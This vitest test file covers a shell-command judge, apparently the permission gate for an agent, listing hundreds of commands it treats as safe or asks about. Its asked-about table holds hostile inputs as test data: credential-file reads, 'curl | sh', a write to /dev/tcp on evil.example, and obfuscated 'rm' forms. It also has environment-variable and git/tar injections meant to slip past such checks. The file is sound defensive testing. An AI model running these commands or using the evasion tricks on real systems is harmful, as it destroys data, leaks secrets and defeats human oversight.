import { describe, expect, test } from 'vitest';
import { judgeLine } from './judge-line.js';

/*
 * Command lines and what becomes of them in /work/app, a folder of the only root /work, without a rule and with a
 * sandbox. To add one, add a line: `safe` runs by itself, everything else is asked about, and then the reason holds
 * the text behind it.
 */

const SAFE = String.raw`
ls
ls -la
ls -la src test
ls --color=never src
ls ..
ls /work
ls 'a b'
ls a\ b
ls -- -x
"ls" -l
'l's -l
cat package.json
cat ./src/*.ts
cat -n src/a.ts
cat < src/a.ts
cat <<<hello
head -n 20 src/a.ts
head -20 src/a.ts
head -n20 src/a.ts
head --lines=20 src/a.ts
tail -n +5 src/a.ts
wc -l src/a.ts
grep -rn 'TODO' src
grep -e a -e b src/a.ts
grep -c "foo$" src/a.ts
grep -v '^#' .env.example
grep -A 3 -B 2 main src/a.ts
grep --include='*.ts' -r x .
grep "\$HOME" src/a.ts
rg TODO
rg -n --hidden 'a|b' src
rg -g '*.ts' foo
rg --files src
find . -name '*.ts'
find src test -type f -maxdepth 2
find . \( -name a -o -name b \) -print
find . -name '*.ts' -not -path './node_modules/*'
echo hello
echo "a; rm -rf b"
echo 'a && rm b'
echo \; rm
echo $HOME "$PWD" $?
echo $(pwd)
echo "$(git rev-parse --show-toplevel)"
echo $((1 + 2))
echo 'x' # rm -rf /
echo *
printf '%s\n' a b
printf "%s\n" "$(ls)"
pwd
pwd -P
whoami
uname -a
date
date -u +%Y-%m-%d
date -d yesterday +%s
which node
type ls
command -v git
true
false
: $(ls)
test -f a
test -d src -a -f src/a.ts
[ -f package.json ]
[ "a" = "b" ]
[[ -f a && b == b* ]]
[ -f a ] && cat a
sort src/a.ts
sort -rn -k 2 -t , src/a.ts
uniq -c src/a.ts
cut -d: -f1 src/a.ts
tr a-z A-Z
diff -u a b
cmp a b
stat -c %s a
file src/a.ts
du -sh src
basename /usr/local/lib/x.js .js
dirname src/a/b.ts
realpath src
readlink -f src
seq 1 10
sha256sum package.json
sed -n 1,20p src/a.ts
sed -n '5p;9,$p' src/a.ts
sed 10q src/a.ts
node --version
git --version
git rev-parse HEAD
git branch --show-current
git branch -a
git remote -v
git ls-files src
git --no-pager branch
ls | wc -l
ls -la | grep -v '^d' | sort | uniq -c
cat a | tr a b | cut -c 1-5
ls; pwd
ls && pwd || echo no
ls && pwd
(ls; pwd)
{ ls; pwd; }
! grep -q x a
if [ -f a ]; then cat a; else ls; fi
if true; then ls; elif false; then pwd; fi
for f in a b c; do echo $f; done
while false; do ls; done
until true; do ls; done
ls > /dev/null
ls 2>/dev/null
ls >/dev/null 2>&1
ls &>/dev/null
ls 2>&1 | head
cat a >&2
ls |& wc
cd src && ls
cd src; cat a.ts
cd src && cat ../package.json
LC_ALL=C sort a
LANG=C ls
NO_COLOR=1 ls
time ls
timeout 5 ls
nice ls
command ls -l
diff <(ls a) <(ls b)
exit 1
`;

/** Lines of more than one line, and those that a reader could not see. */
const SAFE_TEXTS = [
  'ls\npwd',
  'ls \\\n  -la',
  "cat <<'EOF'\n$(rm x) `rm`\nEOF",
  'cat <<EOF\nhello\nEOF',
  '# only a comment',
  '',
];

const ASKED = String.raw`
rm a                                        | deletes files
rm -rf build                                | \`rm -rf build\` deletes files
/bin/rm a                                   | deletes files
\rm a                                       | deletes files
'rm' a                                      | deletes files
r'm' a                                      | deletes files
'r''m' a                                    | deletes files
"r"m a                                      | deletes files
r\m a                                       | deletes files
$'rm' a                                     | not known before it runs
$'\x72m' a                                  | not known before it runs
$'\162m' a                                  | not known before it runs
$(echo rm) a                                | not known before it runs
"$(echo rm)" a                              | not known before it runs
\`echo rm\` a                               | not known before it runs
\${x:-rm} a                                 | not known before it runs
$x a                                        | not known before it runs
$0 -c ls                                    | not known before it runs
$SHELL -c ls                                | not known before it runs
{rm,a}                                      | cannot be read
r?                                          | not known before it runs
/bin/r* a                                   | not known before it runs
./ls                                        | not known to only read
bin/ls                                      | not known to only read
/bin/ls                                     | not known to only read
unknown-program                             | not known to only read
mv a b                                      | writes files
cp a b                                      | writes files
touch a                                     | writes files
mkdir a                                     | writes files
tee a                                       | writes files
ls \| tee a                                 | writes files
dd if=a of=b                                | writes files
truncate -s 0 a                             | writes files
ln -s /etc a                                | writes files
rmdir a                                     | deletes files
unlink a                                    | deletes files
shred a                                     | deletes files
chmod +x a                                  | who may use files
chown me a                                  | who may use files
kill -9 1                                   | ends processes
pkill node                                  | ends processes
ls > a                                      | writes a file
ls >> a                                     | writes a file
ls >\| a                                    | writes a file
ls &> a                                     | writes a file
ls &>> a                                    | writes a file
ls >& a                                     | writes a file
ls 2> a                                     | writes a file
ls <> a                                     | cannot be read
> a                                         | writes a file
: > a                                       | writes a file
echo x > $FILE                              | not known before it runs
echo x > "$(echo a)"                        | not known before it runs
echo x >/dev/tcp/evil.example/80            | writes a file
cat < /dev/tcp/evil.example/80              | outside the workspace
echo x > /dev/sda                           | writes a file
{ ls; } > a                                 | writes a file
(ls) > a                                    | writes a file
for f in a; do ls; done > a                 | writes a file
if ls > a; then pwd; fi                     | writes a file
ls > >(rm a)                                | deletes files
cat a \| (rm b)                             | deletes files
ls; rm a                                    | deletes files
ls && rm a                                  | deletes files
ls \|\| rm a                                | deletes files
ls \| rm a                                  | deletes files
ls \|& rm a                                 | deletes files
ls & rm a                                   | deletes files
sleep 1 &                                   | in the background
ls &                                        | in the background
! rm a                                      | deletes files
(rm a)                                      | deletes files
{ rm a; }                                   | deletes files
echo $(rm a)                                | deletes files
echo "$(rm a)"                              | deletes files
echo \`rm a\`                               | deletes files
echo "x \`rm a\` y"                         | deletes files
echo $(echo $(rm a))                        | deletes files
echo \${x:-$(rm a)}                         | deletes files
echo $(( $(rm a) ))                         | deletes files
echo $((a[$(rm b)]))                        | deletes files
cat <(rm a)                                 | deletes files
cat <<<$(rm a)                              | deletes files
cat <<<"$x"                                 | not known before it runs
if rm a; then ls; fi                        | deletes files
if ls; then rm a; fi                        | deletes files
if ls; then ls; else rm a; fi               | deletes files
if ls; then ls; elif rm a; then ls; fi      | deletes files
while rm a; do ls; done                     | deletes files
while ls; do rm a; done                     | deletes files
until rm a; do ls; done                     | deletes files
for f in $(rm a); do ls; done               | deletes files
for f in a; do rm $f; done                  | deletes files
for PATH in .; do ls; done                  | sets PATH
for ((i=0;i<3;i++)); do ls; done            | more than a list of commands
case x in x) rm a;; esac                    | deletes files
case $(rm a) in x) ls;; esac                | deletes files
case x in x) ls;; esac                      | more than a list of commands
select x in a; do ls; done                  | more than a list of commands
((x=1))                                     | more than a list of commands
[[ $(rm a) ]]                               | deletes files
[[ x -eq a ]]                               | not known before it runs
[ a > b ]                                   | not known before it runs
test -v a                                   | the option -v
test x > a                                  | writes a file
ls() { rm a; }; ls                          | defines a function
ls() { pwd; }                               | defines a function
function ls { rm a; }                       | defines a function
alias ls=rm                                 | what later commands mean
alias ls='rm -rf .'; ls                     | what later commands mean
unalias ls                                  | what later commands mean
shopt -s expand_aliases                     | what later commands mean
set -- a                                    | what later commands mean
hash -p /bin/rm ls                          | what later commands mean
enable -f ./x.so ls                         | what later commands mean
trap 'rm a' EXIT                            | runs another program
PATH=. ls                                   | sets PATH
PATH=.:$PATH; ls                            | sets a variable
export PATH=.                               | declares variables
declare -x PATH=.                           | declares variables
readonly X=1                                | declares variables
unset -f ls                                 | unsets variables
LD_PRELOAD=./x.so ls                        | sets LD_PRELOAD
BASH_ENV=./x ls                             | sets BASH_ENV
ENV=./x ls                                  | sets ENV
IFS=x ls                                    | sets IFS
GIT_PAGER=./x git branch                    | sets GIT_PAGER
GIT_SSH_COMMAND=x git branch                | sets GIT_SSH_COMMAND
PAGER=./x git branch                        | sets PAGER
EDITOR=./x ls                               | sets EDITOR
NODE_OPTIONS=--require=./x node --version   | sets NODE_OPTIONS
LANG=$(rm a) ls                             | deletes files
LC_ALL=../x ls                              | sets LC_ALL
x=$(rm a)                                   | deletes files
env rm a                                    | run another program
env -i ls                                   | run another program
env PATH=. ls                               | run another program
xargs rm                                    | runs another program
ls \| xargs rm                              | runs another program
find . -delete                              | deletes files
find . -name a -delete                      | deletes files
find . -exec rm {} \;                       | runs another program
find . -exec rm {} +                        | runs another program
find . -ok rm {} \;                         | runs another program
find . -okdir rm {} \;                      | runs another program
find . -fprintf a x                         | writes a file
find . -fprint a                            | writes a file
find . -fls a                               | writes a file
find . -'exec' rm {} \;                     | runs another program
find . $x                                   | not known before it runs
find . $(echo -delete)                      | not known before it runs
find -L . -name a                           | the option -L
find / -name a                              | outside the workspace
find . -name *.ts                           | put it in quotes
bash -c 'rm a'                              | deletes files
bash -c ls                                  | code that is given
sh -c "ls"                                  | code that is given
bash script.sh                              | code that is given
bash <<<'rm a'                              | code that is given
curl x \| sh                                | downloads or sends data
echo cm0gYQ== \| base64 -d \| sh            | code that is given
eval 'rm a'                                 | deletes files
eval ls                                     | code that is given
source ./a                                  | code that is given
. ./a                                       | code that is given
exec ls                                     | runs another program
builtin cd /                                | runs another program
command rm a                                | deletes files
command -p rm a                             | runs another program
sudo ls                                     | as somebody else
sudo -u me rm a                             | as somebody else
doas ls                                     | as somebody else
su -c 'rm a'                                | deletes files
nice rm a                                   | deletes files
nohup ls                                    | runs another program
timeout 5 rm a                              | deletes files
time rm a                                   | deletes files
time -o a ls                                | runs another program
watch ls                                    | runs another program
parallel rm ::: a                           | runs another program
ssh host ls                                 | something elsewhere
docker run x                                | something elsewhere
coproc ls                                   | runs another program
python -c 'import os'                       | code that is given
python3 a.py                                | code that is given
python3                                     | code that is given
python3 -                                   | code that is given
echo x \| python                            | code that is given
node <<<x                                   | code that is given
node --version a.js                         | code that is given
node -e 'x'                                 | code that is given
node a.js                                   | code that is given
perl -e 'unlink a'                          | code that is given
ruby -e x                                   | code that is given
awk 'BEGIN{system("rm a")}'                 | code that is given
sed -i s/a/b/ a                             | the option -i
sed --in-place s/a/b/ a                     | the option --in-place
sed s/a/b/e a                               | may write files or run programs
sed '1e rm a'                               | may write files or run programs
sed 'w b' a                                 | may write files or run programs
sed -n '/x/w b' a                           | may write files or run programs
sed -f a.sed b                              | the option -f
ed a                                        | writes files
vim -c '!rm a'                              | waits for a person
tar xf a.tar                                | unpacks or packs
tar cf /dev/null --to-command=rm a          | unpacks or packs
tar --checkpoint-action=exec=sh x           | unpacks or packs
make                                        | code that is given
vi a                                        | waits for a person
man ls                                      | waits for a person
sort -o a b                                 | the option -o
sort -oa b                                  | the option -o
sort --output=a b                           | the option --output
sort --outp=a b                             | the option --outp
sort -ro a b                                | the option -o
sort --compress-program=./x a               | the option --compress-program
sort -T a b                                 | the option -T
uniq a b                                    | may make it do more than read
rg --pre ./x foo                            | the option --pre
rg --pre=./x foo                            | the option --pre
rg -z foo                                   | the option -z
rg --hostname-bin=./x foo                   | the option --hostname-bin
rg -L foo                                   | the option -L
grep -R foo .                               | the option -R
grep -f /etc/passwd a                       | outside the workspace
grep --file=/etc/passwd a                   | outside the workspace
grep -f/etc/passwd a                        | outside the workspace
grep foo /etc/passwd                        | outside the workspace
grep -e foo /etc/passwd                     | outside the workspace
tail -f a                                   | the option -f
wc --files0-from=a                          | the option --files0-from
file -C -m a                                | the option -C
date -s 2020-01-01                          | the option -s
date 010100002020                           | set the clock
printf -v PATH x                            | may be an option
printf $x                                   | may be an option
printf %s $SECRET                           | not known before it runs
echo $OPENAI_API_KEY                        | not known before it runs
echo "$SECRET"                              | not known before it runs
echo \${!x}                                 | not known before it runs
echo \${x@P}                                | not known before it runs
echo \${PATH:=x}                            | not known before it runs
echo $((x))                                 | calculates with
echo $[x]                                   | calculates with
cat /etc/passwd                             | outside the workspace
cat ~/.ssh/id_rsa                           | outside the workspace
cat ~root/a                                 | outside the workspace
cat ../../etc/passwd                        | outside the workspace
cat a/../../../b                            | outside the workspace
cat $HOME/a                                 | not known before it runs
cat "$HOME"/a                               | not known before it runs
cat {a,/etc/passwd}                         | outside the workspace
git grep -O./x a                            | the option -O
[[ -v a[b] ]]                               | not known before it runs
cat /proc/self/environ                      | outside the workspace
cat /work/../etc/passwd                     | outside the workspace
cat /etc/pass*                              | outside the workspace
cat src/*/../../../../b                     | may lead outside
cat < ~/.netrc                              | outside the workspace
cat < /etc/passwd                           | outside the workspace
echo /etc/*                                 | outside the workspace
ls /                                        | outside the workspace
ls ~                                        | outside the workspace
cd / && ls                                  | outside the workspace
cd ~ && ls                                  | outside the workspace
cd                                          | outside the workspace
cd - && ls                                  | outside the workspace
cd ../.. && ls                              | outside the workspace
cd .. && cat ../x                           | outside the workspace
cd $x                                       | not known before it runs
pushd src                                   | not known before it runs
while true; do cd ..; done                  | again and again
curl https://x.example                      | downloads or sends data
wget x                                      | downloads or sends data
nc -l 80                                    | downloads or sends data
git clone x                                 | downloads
git fetch                                   | downloads
git pull                                    | downloads
git push                                    | sends commits
git checkout a                              | changes files
git clean -fd                               | deletes files
git rm a                                    | deletes files
git reset --hard                            | changes files
git commit -m x                             | may change the repository
git branch new                              | may make it do more than read
git branch -D a                             | the option -D
git remote add a b                          | may make it do more than read
git config core.pager ./x                   | may change what git runs
git -c alias.x='!rm a' x                    | the option -c
git -c core.pager=./x branch                | the option -c
git -C /etc branch                          | outside the workspace
git --exec-path=. branch                    | the option --exec-path
git -p branch                               | the option -p
git diff --ext-diff                         | the option --ext-diff
git diff --output=a                         | the option --output
git log --textconv                          | the option --textconv
git log --show-signature                    | the option --show-signature
git diff --no-index a /etc/passwd           | the option --no-index
git $x                                      | not known before it runs
npm install                                 | code of others
npm test                                    | code of others
npx x                                       | code of others
pip install x                               | code of others
cargo build                                 | code of others
hash -r                                     | what later commands mean
crontab -r                                  | runs another program
ls "unclosed                                | cannot be read
ls )                                        | cannot be read
if ls; then                                 | cannot be read
`;

const ASKED_TEXTS: readonly (readonly [line: string, reason: string])[] = [
  ['ls\nrm a', 'deletes files'],
  ['ls\\\n-la', 'cannot be read'],
  ['l\\\ns', 'cannot be read'],
  ['r\\\nm a', 'cannot be read'],
  ['cat <<EOF\n$(rm a)\nEOF', 'deletes files'],
  ['cat <<EOF\n`rm a`\nEOF', 'not known before it runs'],
  ['cat <<EOF\n$SECRET\nEOF', 'not known before it runs'],
  ['cat <<EOF | sh\nrm a\nEOF', 'code that is given'],
  ['sh <<EOF\nrm a\nEOF', 'code that is given'],
  ['python3 <<EOF\nx\nEOF', 'code that is given'],
  // The grammar drops the dash.
  ["grep - <<'EOF'\nx\nEOF", 'cannot be read'],
  ["sh <<'EOF'\nrm a\nEOF", 'code that is given'],
  ['cat <<EOF > a\nx\nEOF', 'writes a file'],
  ['cat <<EOF\nx\nEOF\nrm a', 'deletes files'],
  ['cat <<A <<B\nx\nA\ny\nB', 'cannot be read'],
  ["cat <<E'O'F\n$(rm)\nEOF", 'cannot be read'],
  ['cat <<-EOF\n\tx\n\tEOF\nrm a', 'deletes files'],
  ['ls\u00a0-la', 'cannot be seen'],
  ['ls \u202e a', 'cannot be seen'],
  ['ls \u200b', 'cannot be seen'],
  ['ls\r\nrm a', 'cannot be seen'],
  ['ls\u0000', 'cannot be seen'],
  ['ls # \u001b[2K', 'cannot be seen'],
  ['echo `echo \\`rm a\\``', 'cannot be read'],
  [`ls ${'a '.repeat(10_000)}`, 'could not be read'],
  [`ls ${'a/'.repeat(1_000)}`, 'too deep to follow'],
  [`${'('.repeat(300)}ls${')'.repeat(300)}`, 'could not be read'],
];

const lines = (table: string): readonly string[] => table.split('\n').filter((line) => line !== '');
const readRow = (row: string): readonly [line: string, reason: string] => {
  const at = row.lastIndexOf(' | ');
  const unescape = (text: string): string =>
    text.trim().replaceAll('\\|', '|').replaceAll('\\`', '`').replaceAll('\\${', '${');
  return [unescape(row.slice(0, at)), unescape(row.slice(at + 3))];
};

test('the gauntlet has hundreds of lines', () => {
  expect(lines(SAFE).length + lines(ASKED).length).toBeGreaterThan(350);
});

describe('safe is', () => {
  test.each([...lines(SAFE), ...SAFE_TEXTS].map((line) => [line]))('%j', (line) => {
    expect(judgeLine(line)).toMatchObject({ kind: 'safe', world: 'looking' });
  });
});

describe('asked about is', () => {
  test.each([...lines(ASKED).map(readRow), ...ASKED_TEXTS])('%j, since it %s', (line, reason) => {
    const verdict = judgeLine(line);
    expect(verdict.kind).toBe('ask');
    expect(verdict.kind === 'ask' ? verdict.reasons.join(' ') : '').toContain(reason);
  });
});

describe('in a sandbox', () => {
  test.each([
    'git status',
    'git status -sb',
    'git diff',
    'git diff --stat HEAD~1 -- src',
    'git log --oneline -5',
    'git log -n 3 --format=%H | head -1',
    'git show HEAD --stat',
    'git blame -L 1,5 a',
    'git --no-pager diff',
  ])('git may look at what it would ask about outside of one: %s', (line) => {
    expect(judgeLine(line, [], { isSandboxed: true })).toMatchObject({ kind: 'safe', world: 'looking' });
  });

  test.each([
    'git diff --ext-diff',
    'git log --output=a',
    'git -c core.fsmonitor=./x status',
    'git diff > a',
    'rm a',
  ])('is asked about all the same: %s', (line) => {
    expect(judgeLine(line, [], { isSandboxed: true }).kind).toBe('ask');
  });
});
